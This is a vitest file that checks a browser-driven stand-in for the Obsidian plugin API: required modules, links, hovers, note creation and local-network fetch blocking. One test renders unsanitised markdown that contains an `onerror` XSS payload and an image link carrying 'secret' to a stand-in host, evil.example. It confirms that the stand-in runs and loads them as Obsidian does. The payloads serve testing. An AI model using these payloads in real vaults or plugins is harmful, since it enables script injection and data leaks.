// The stand-in bites where Obsidian does; without that the other tests would prove little.
import { buildSync } from "esbuild";
import { expect, test } from "vitest";
import { useBench } from "../bench/bench";
import type { PluginFiles } from "../stand-in/host";

const bench = useBench();

/** A small plugin of the given body, built as a real one is. */
function plugin(body: string): PluginFiles {
  const code = `import { Plugin, ItemView, MarkdownRenderer, requestUrl } from "obsidian";\n${body}`;
  const made = buildSync({
    stdin: { contents: code, loader: "ts" },
    write: false,
    bundle: true,
    format: "cjs",
    external: ["obsidian", "node:fs"],
  });
  const manifest = {
    id: "small",
    name: "small",
    author: "",
    version: "1.0.0",
    minAppVersion: "1.13.0",
    description: "",
  };
  return { code: made.outputFiles[0]?.text ?? "", styles: "", manifest };
}

const view = (onOpen: string, onload = "") =>
  plugin(`
class V extends ItemView {
  getViewType() { return "small"; }
  getDisplayText() { return "small"; }
  async onOpen() { ${onOpen} }
}
export default class P extends Plugin {
  async onload() {
    this.registerView("small", (leaf) => new V(leaf));
    ${onload}
    await this.app.workspace.ensureSideLeaf("small", "right", { active: true });
  }
}`);

const render = (markdown: string) =>
  view(`await MarkdownRenderer.render(this.app, ${JSON.stringify(markdown)}, this.contentEl, "", this);`);

const open = (files: PluginFiles) => bench.obsidian({ plugin: files });

test("a name of the API that is not stood in for is an error with that name", async () => {
  const asking = open(plugin(`export default class P extends Plugin { onload() { this.app.plugins; } }`));
  await expect(asking).rejects.toThrow("App.plugins is not in the stand-in");
});

test("nothing but obsidian can be required", async () => {
  const asking = open(plugin(`import "node:fs"; export default class P extends Plugin {}`));
  await expect(asking).rejects.toThrow("only obsidian can be required");
});

test("text that was not made harmless runs, loads and transcludes", async () => {
  const { page, foreign } = await open(
    render(
      '<img src=x onerror="window.PWN=1"> ![leak](https://evil.example/?q=secret) ![[Welcome]]\n\n```dataviewjs\n1\n```\n\n`$= 2`',
    ),
  );
  await page.waitForFunction(() => window.PWN === 1);
  await page.waitForSelector(".internal-embed.markdown-embed p");
  expect(foreign).toContain("https://evil.example/?q=secret");
  expect(await page.evaluate(() => window.bench.ran.map((one) => one.kind))).toEqual(["dataviewjs", "inline $="]);
});

test("a link in a view opens nothing by itself, and a numbered item becomes a task", async () => {
  const { page } = await open(render("[[Welcome|here]]\n\n- [1] one"));
  await page.click("a.internal-link");
  expect(await page.locator(".view-content a.internal-link").getAttribute("data-href")).toBe("Welcome");
  expect(await page.evaluate(() => window.bench.app.workspace.benchOpened)).toEqual([]);
  expect(await page.locator("li.task-list-item").getAttribute("data-task")).toBe("1");
});

const HOVER = `this.contentEl.createEl("a", { text: "note" }).addEventListener("mouseover", (event) =>
  this.app.workspace.trigger("hover-link", { event, source: "small", hoverParent: this.leaf, targetEl: event.target, linktext: "Welcome" }));`;

test("a hover source that was registered shows the page, and one that was not shows nothing", async () => {
  const registered = await open(
    view(HOVER, `this.registerHoverLinkSource("small", { display: "small", defaultMod: false });`),
  );
  await registered.page.hover("text=note");
  await registered.page.waitForSelector(".hover-popover[data-path='Welcome.md'] p");
  const unknown = await open(view(HOVER));
  await unknown.page.hover("text=note");
  await unknown.page.waitForFunction(() => window.bench.app.workspace.getLeavesOfType("small").length === 1);
  expect(
    await unknown.page.evaluate(() => window.bench.app.workspace.getLeavesOfType("small")[0]?.hoverPopover),
  ).toBeNull();
});

test("a link to a note that is not there makes the note", async () => {
  const { page } = await open(view("", ""));
  const opened = await page.evaluate(async () => {
    await window.bench.app.workspace.openLinkText("Never/Written#x", "");
    const made = window.bench.app.vault.getFileByPath("Never/Written.md");
    if (made) await window.bench.app.vault.delete(made);
    return window.bench.app.workspace.benchOpened;
  });
  expect(opened).toMatchObject([{ path: "Never/Written.md", created: true }]);
});

test("the app's own request reaches what the page's own, blocked by the platform, does not", async () => {
  const app = await open(
    view(`(window as any).tell = async (url: string) => ({
      page: await fetch(url).then((answer) => answer.status, (error) => error.name),
      app: (await requestUrl({ url, throw: false })).status,
      refused: await requestUrl(url + "?").then(() => "answered", (error) => error.status),
    });`),
  );
  const ask = () =>
    app.page.evaluate(
      (url) => (window as unknown as { tell(url: string): unknown }).tell(url),
      `${bench.daemon.address}/api/status`,
    );
  expect(await ask()).toEqual({ page: 401, app: 401, refused: 401 });
  await app.blockStreaming();
  expect(await ask()).toEqual({ page: "TypeError", app: 401, refused: 401 });
});

test("Chromium itself blocks a page that was not allowed into the local network, and says no more than TypeError", async () => {
  const app = await bench.obsidian({ plugin: view(""), localNetwork: false });
  const page = await app.page.evaluate(
    (url) =>
      fetch(url).then(
        () => "answered",
        (error: Error) => error.name,
      ),
    `${bench.daemon.address}/api/health`,
  );
  expect(page).toBe("TypeError");
});
